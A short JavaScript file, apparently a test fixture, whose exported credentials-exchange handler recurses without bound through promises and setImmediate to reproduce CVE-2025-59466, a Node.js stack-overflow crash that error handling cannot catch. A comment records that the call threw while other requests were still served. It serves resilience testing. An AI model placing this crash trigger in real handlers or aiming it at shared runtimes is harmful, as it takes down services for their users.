// outcome: threw; beside served
// CVE-2025-59466: a stack that overflowed while asynchronous resources were followed ended Node, whatever the program caught.
exports.onExecuteCredentialsExchange = async () => {
  const again = async (depth) => {
    const one = Promise.resolve(depth)
    setImmediate(() => {})
    await again(depth + 1)
    return one
  }
  await again(0)
}
